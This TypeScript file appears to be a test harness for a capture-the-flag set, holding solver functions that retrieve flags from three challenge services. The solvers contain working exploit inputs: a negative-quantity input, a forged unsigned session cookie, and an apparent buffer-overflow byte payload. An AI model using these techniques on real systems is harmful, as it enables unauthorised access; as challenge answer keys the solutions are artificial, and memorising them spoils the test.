import { once } from 'node:events'
import { connect } from 'node:net'
import { text } from 'node:stream/consumers'

interface Address {
  readonly host: string
  readonly port: number
}

/** How the flag of a running service is found. */
type ServiceSolver = (address: Address) => Promise<string | undefined>

const FLAG = /\w+\{[^}]*\}/

/** Types all of it at once and reads what comes back. */
const typing =
  (input: string): ServiceSolver =>
  async (address) => {
    const socket = connect(address)
    await once(socket, 'connect')
    socket.end(Buffer.from(input, 'latin1'))
    return FLAG.exec(await text(socket))?.[0]
  }

const harbourOffice: ServiceSolver = async ({ host, port }) => {
  const pass = Buffer.from(JSON.stringify({ name: 'guest', berth: 'inner' })).toString('base64url')
  const response = await fetch(`http://${host}:${port}/inner`, {
    headers: { cookie: `pass=${pass}` },
  })
  return FLAG.exec(await response.text())?.[0]
}

/** By image. Used by tests only. */
export const SERVICE_SOLVERS: Readonly<Record<string, ServiceSolver>> = {
  'halyard/chandlery': typing('2\n1\n-2000\n2\n3\n1\n4\n'),
  'halyard/harbour-office': harbourOffice,
  'halyard/tide-log': typing(`write\n${'~'.repeat(32)}\x5e\x1e\xab\x0c\nread\nquit\n`),
}
